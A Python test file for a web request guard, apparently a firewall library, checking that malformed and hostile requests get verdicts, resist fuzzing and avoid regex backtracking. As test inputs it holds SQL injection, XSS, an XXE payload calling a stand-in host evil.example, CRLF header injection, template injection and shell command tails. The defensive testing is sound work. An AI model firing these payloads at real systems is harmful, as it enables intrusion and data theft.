"""Hostile and broken requests get a clear verdict, never an exception."""

from __future__ import annotations

import json
import re
import time
from urllib.parse import quote

import pytest

from apisentry.guard import Guard, HttpRequest
from apisentry.guard.config import GuardConfig
from apisentry.guard.signatures import SIGNATURES, Signature

JSON = [("Content-Type", "application/json")]


@pytest.mark.parametrize(("req", "detector", "fragment"), [
    (HttpRequest("POST", "/x", "", JSON, b'{"a": "b",,}'), "body", "malformed JSON"),
    (HttpRequest("POST", "/x", "", JSON, b"[" * 200 + b"]" * 200), "body", "deeper than 64"),
    (HttpRequest("POST", "/x", "", [("Content-Type", "application/xml")], b"<a><b></a>"), "body", "malformed XML"),
    (HttpRequest("POST", "/x", "", [("Content-Type", "multipart/form-data")], b"--x\r\nno boundary"), "body", "multipart"),
    (HttpRequest("POST", "/x", "", JSON, b"{" + b" " * (2 << 20) + b"}"), "limits", "body larger"),
    (HttpRequest("GET", "/x", "", [("X-Big", "a" * 20000)]), "limits", "headers larger"),
    (HttpRequest("GET", "/x", "", [("X-Evil", "a\r\nSet-Cookie: x=1")]), "crlf", "line break"),
])
def test_broken_requests_get_named_detections(guard: Guard, req: HttpRequest, detector: str, fragment: str) -> None:
    v = guard.inspect(req)
    assert v.fault is None
    assert any(d.detector == detector and fragment in d.message for d in v.detections), v.detections


def test_deep_json_and_oversize_block(guard: Guard) -> None:
    assert guard.inspect(HttpRequest("POST", "/x", "", JSON, b"[" * 200 + b"]" * 200)).action == "block"
    assert guard.inspect(HttpRequest("POST", "/x", "", JSON, b'{"a":"' + b"x" * (2 << 20) + b'"}')).action == "block"


def test_invalid_utf8_is_inspected_not_fatal(guard: Guard) -> None:
    v = guard.inspect(HttpRequest("POST", "/x", "q=%ff%fe%27%20OR%201=1--", [("Content-Type", "text/plain")],
                                  b"\xff\xfe<script>alert(1)</script>\xc3"))
    assert v.fault is None and v.action == "block"
    assert {"xss", "sqli"} <= {d.detector for d in v.detections}


def test_many_parameters_are_capped() -> None:
    g = Guard(GuardConfig(max_values=100))
    v = g.inspect(HttpRequest("POST", "/x", "", JSON, json.dumps({f"k{i}": "v" for i in range(500)}).encode()))
    assert v.fault is None and any(d.detector == "limits" for d in v.detections)


def test_xxe_in_xml_body(guard: Guard) -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]><foo/>'
    v = guard.inspect(HttpRequest("POST", "/x", "", [("Content-Type", "application/xml")], body))
    assert v.action == "block" and any(d.detector == "xxe" for d in v.detections)
    billion = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
    v = guard.inspect(HttpRequest("POST", "/x", "", [("Content-Type", "text/xml")], billion))
    assert v.fault is None  # defusedxml refuses to expand; the DOCTYPE is still reported
    assert any(d.detector == "xxe" for d in v.detections)


def test_concurrent_inspection_from_many_threads() -> None:
    """WSGI servers call the guard from many threads at once; no call may fault."""
    from concurrent.futures import ThreadPoolExecutor

    g = Guard()
    reqs = [HttpRequest("POST", "/x", "q=%27%20OR%201%3D1--", JSON, json.dumps({"n": "a" * (i % 50)}).encode())
            for i in range(400)]
    with ThreadPoolExecutor(8) as pool:
        verdicts = list(pool.map(g.inspect, reqs))
    assert all(v.fault is None and v.action == "block" for v in verdicts)


def test_a_lone_surrogate_is_no_way_past_the_guard(guard: Guard) -> None:
    """JSON may escape half a surrogate pair; the tokenizers must still see the rest."""
    body = b'{"q": "\\ud800 x\' UNION SELECT password FROM users --"}'
    v = guard.inspect(HttpRequest("POST", "/api/items", "", [("Content-Type", "application/json")], body))
    assert v.fault is None and v.action == "block", v
    v = guard.inspect(HttpRequest("POST", "/api/items", "", [("Content-Type", "application/json")], b'{"q": "<b>\\udfff</b>"}'))
    assert v.fault is None


def test_random_hostile_values_never_fault_the_guard(guard: Guard) -> None:
    """Seeded fuzz: escapes, half escapes, lone surrogates, control bytes and base64 in every
    location; the guard may block or allow, but a fault would be a way past it."""
    import base64
    import random
    import string
    from urllib.parse import quote

    rng = random.Random(5)
    alphabet = string.printable + "¼¾¢é‘“\ud800\x00\x1bｅ%&\\+=/"
    pieces = ["%", "%u00", "%c0%af", "&#", "&#x3c;", "\\u00", "\\x", "\\0", "\\033", "+ADw-", "${", "{{", "<", "'", '"', "=="]
    for i in range(2000):
        s = "".join(rng.choice(alphabet) if rng.random() < 0.8 else rng.choice(pieces) for _ in range(rng.randint(0, 60)))
        if rng.random() < 0.2:
            s = base64.b64encode(s.encode("utf-8", "surrogatepass")).decode() + rng.choice(["", '"/>', "=="])
        raw = s.encode("utf-8", "surrogatepass")
        reqs = [
            HttpRequest("GET", "/x", "q=" + quote(raw, safe="%&=+"), [("User-Agent", "f")]),
            HttpRequest("POST", "/x", "", [("Content-Type", "application/json")], json.dumps({"a": s}).encode()),
            HttpRequest("GET", "/x/" + quote(raw, safe="%"), "", [("X-A", s.replace("\r", "").replace("\n", ""))]),
            HttpRequest("POST", "/x", "", [("Content-Type", "application/xml")],
                        ("<a b='" + s + "'>" + s + "</a>").encode("utf-8", "surrogatepass")),
        ]
        v = guard.inspect(reqs[i % 4])
        assert v.fault is None, (s, v.fault)


# Runs of one or two characters are what makes a backtracking regex slow: a signature that tries
# every split of a run costs seconds on a few kilobytes (`\s*['"]?\s*` before a command, `\.{2,}`
# before a slash did). Eight times the run must cost about eight times as much, not sixty-four
# (or be fast anyway). The scanner also confirms a match only near where Hyperscan saw it end.
_RUN_CHARS = list("a1 \n;/.\\'\"<(=%-:&|`${")


def _seconds(pattern: re.Pattern[str], text: str) -> float:
    best = float("inf")
    for _ in range(3):
        t = time.perf_counter()
        pattern.search(text)
        best = min(best, time.perf_counter() - t)
    return best


@pytest.mark.parametrize("sig", [s for s in SIGNATURES if not s.id.startswith("gate:")], ids=lambda s: s.id)
def test_no_signature_backtracks_on_long_runs(sig: Signature) -> None:
    # (Gates only run in Hyperscan, which does not backtrack.)
    pattern = re.compile(sig.pattern, re.IGNORECASE)
    for a in _RUN_CHARS:
        for b in ["", *_RUN_CHARS]:
            unit = a + b
            text = unit * (6400 // len(unit))
            t = time.perf_counter()
            pattern.search(text)
            if time.perf_counter() - t > 0.02:  # slow enough to look closer
                long, short = _seconds(pattern, text), _seconds(pattern, unit * (800 // len(unit)))
                assert long < 20 * short, (sig.id, unit, short, long)


@pytest.mark.parametrize(("unit", "times", "tail"), [
    ("a", 100_000, " b(1)>x"), ("\\\"", 50_000, ""), (" ", 100_000, "id;"), (".", 100_000, "/"), ("\n", 100_000, "id -a"),
    ("/\\", 50_000, ""), ("{{", 400_000, "{{7*7}}"), ("${", 400_000, "${7*7}"), ("&", 800_000, "& whoami")])
def test_long_hostile_values_are_inspected_in_linear_time(guard: Guard, unit: str, times: int, tail: str) -> None:
    # Against the same value an eighth as long, not against the clock: on a busy machine a fixed
    # bound of seconds failed a linear run, and a quadratic one costs 64 times as much, not 8.
    def requests(run: str) -> tuple[HttpRequest, HttpRequest]:
        return (HttpRequest("GET", "/graphql", "q=" + quote(run), []),
                HttpRequest("POST", "/graphql", "", JSON, json.dumps({"query": run}).encode()))

    def seconds(req: HttpRequest) -> float:
        t = time.perf_counter()
        v = guard.inspect(req)
        assert v.fault is None
        return time.perf_counter() - t

    for long, short in zip(requests(unit * times + tail), requests(unit * (times // 8) + tail), strict=True):
        assert seconds(long) < 24 * min(seconds(short) for _ in range(3)) + 0.05, (unit, times)
